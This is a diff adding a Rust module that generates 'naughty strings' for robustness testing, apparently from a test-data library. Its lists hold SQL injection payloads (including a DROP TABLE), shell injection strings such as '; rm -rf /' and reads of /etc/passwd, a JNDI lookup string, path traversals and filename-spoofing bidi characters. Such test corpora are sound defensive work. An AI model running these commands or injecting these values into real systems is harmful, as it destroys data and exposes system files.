@@ -0,0 +1,180 @@
+use crate::number::some_number_less_than_with;
+use rand::Rng;
+
+const SQL_INJECTION: &[&str] = &[
+    "' OR '1'='1",
+    "' OR 1=1 --",
+    "\" OR \"\"=\"",
+    "'; DROP TABLE users; --",
+    "admin'--",
+    "' UNION SELECT NULL, NULL, NULL --",
+    "1' AND SLEEP(5) --",
+    "1; SELECT * FROM information_schema.tables",
+];
+
+const SHELL_INJECTION: &[&str] = &[
+    "; rm -rf /",
+    "$(reboot)",
+    "`reboot`",
+    "| cat /etc/passwd",
+    "&& shutdown -h now",
+    "\n/bin/sh",
+    "${IFS}cat${IFS}/etc/passwd",
+    "$HOME",
+];
+
+const FORMAT_SPECIFIER: &[&str] = &[
+    "%s%s%s%s%s%s",
+    "%n%n%n%n",
+    "%x%x%x%x",
+    "%d",
+    "%.1000000f",
+    "{}",
+    "{0}",
+    "{{7*7}}",
+    "${jndi:ldap://example.com/a}",
+];
+
+const ZERO_WIDTH: &[&str] = &[
+    "\u{200B}",
+    "a\u{200B}b",
+    "\u{200C}",
+    "\u{200D}",
+    "\u{2060}",
+    "\u{FEFF}",
+    "\u{FEFF}test",
+    "test\u{200B}",
+];
+
+const BIDI_OVERRIDE: &[&str] = &[
+    "\u{202E}",
+    "\u{202E}txt.exe",
+    "photo\u{202E}gpj.exe",
+    "\u{202D}override\u{202C}",
+    "\u{202B}embedding\u{202C}",
+    "\u{2066}isolate\u{2069}",
+    "\u{2067}isolate",
+];
+
+const OVERLONG_LENGTHS: &[usize] = &[255, 256, 1025, 4097, 65_535, 65_536, 1_048_577];
+
+const NULL_BYTE: &[&str] = &["\0", "\0\0\0", "abc\0def", "file.txt\0.jpg", "\0test"];
+
+const RESERVED_FILENAME: &[&str] = &[
+    "CON",
+    "PRN",
+    "AUX",
+    "NUL",
+    "COM1",
+    "LPT1",
+    "con.txt",
+    "NUL.tar.gz",
+    ".",
+    "..",
+    "../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "~",
+    " ",
+];
+
+const EMOJI_ZWJ: &[&str] = &[
+    "👨\u{200D}👩\u{200D}👧\u{200D}👦",
+    "👩🏽\u{200D}💻",
+    "🏳\u{FE0F}\u{200D}🌈",
+    "🏴\u{200D}☠\u{FE0F}",
+    "🧑\u{200D}🤝\u{200D}🧑",
+    "❤\u{FE0F}\u{200D}🔥",
+    "👁\u{FE0F}\u{200D}🗨\u{FE0F}",
+];
+
+/// A category of strings known to break software
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub enum NaughtyCategory {
+    /// SQL injection payloads, such as `' OR '1'='1`
+    SqlInjection,
+    /// Shell injection payloads, such as `; rm -rf /` or `$(reboot)`
+    ShellInjection,
+    /// Format specifiers and template expressions, such as `%s%s%s` or `{{7*7}}`
+    FormatSpecifier,
+    /// Strings containing zero-width characters, such as the zero-width space
+    ZeroWidth,
+    /// Strings containing bidirectional override and isolate characters
+    BidiOverride,
+    /// Strings of lengths around common buffer sizes, up to over a million characters
+    Overlong,
+    /// Strings containing null bytes
+    NullByte,
+    /// Reserved file names and path traversals, such as `CON` or `../../../etc/passwd`
+    ReservedFilename,
+    /// Emoji joined into a single glyph by zero-width joiners
+    EmojiZwj,
+}
+
+impl NaughtyCategory {
+    /// All categories of naughty strings
+    pub const ALL: [NaughtyCategory; 9] = [
+        NaughtyCategory::SqlInjection,
+        NaughtyCategory::ShellInjection,
+        NaughtyCategory::FormatSpecifier,
+        NaughtyCategory::ZeroWidth,
+        NaughtyCategory::BidiOverride,
+        NaughtyCategory::Overlong,
+        NaughtyCategory::NullByte,
+        NaughtyCategory::ReservedFilename,
+        NaughtyCategory::EmojiZwj,
+    ];
+}
+
+pub(super) fn naughty_string<R: Rng + ?Sized>(rng: &mut R, category: NaughtyCategory) -> String {
+    let corpus = match category {
+        NaughtyCategory::SqlInjection => SQL_INJECTION,
+        NaughtyCategory::ShellInjection => SHELL_INJECTION,
+        NaughtyCategory::FormatSpecifier => FORMAT_SPECIFIER,
+        NaughtyCategory::ZeroWidth => ZERO_WIDTH,
+        NaughtyCategory::BidiOverride => BIDI_OVERRIDE,
+        NaughtyCategory::Overlong => {
+            let length = OVERLONG_LENGTHS[some_number_less_than_with(rng, OVERLONG_LENGTHS.len())];
+            return super::some_string_of_length_with(rng, length);
+        }
+        NaughtyCategory::NullByte => NULL_BYTE,
+        NaughtyCategory::ReservedFilename => RESERVED_FILENAME,
+        NaughtyCategory::EmojiZwj => EMOJI_ZWJ,
+    };
+    corpus[some_number_less_than_with(rng, corpus.len())].to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rng::seeded_rng;
+
+    #[test]
+    fn can_create_naughty_string_of_every_category() {
+        for category in NaughtyCategory::ALL {
+            let _ = naughty_string(&mut seeded_rng(), category);
+        }
+    }
+
+    #[test]
+    fn can_create_overlong_naughty_string() {
+        let actual = naughty_string(&mut seeded_rng(), NaughtyCategory::Overlong);
+        assert!(actual.len() >= 255);
+    }
+
+    #[test]
+    fn can_create_null_byte_naughty_string() {
+        let mut rng = seeded_rng();
+        for _ in 0..100 {
+            let actual = naughty_string(&mut rng, NaughtyCategory::NullByte);
+            assert!(actual.contains('\0'));
+        }
+    }
+
+    #[test]
+    fn can_create_zero_width_naughty_string() {
+        let actual = naughty_string(&mut seeded_rng(), NaughtyCategory::ZeroWidth);
+        assert!(actual
+            .chars()
+            .any(|c| matches!(c, '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}')));
+    }
+}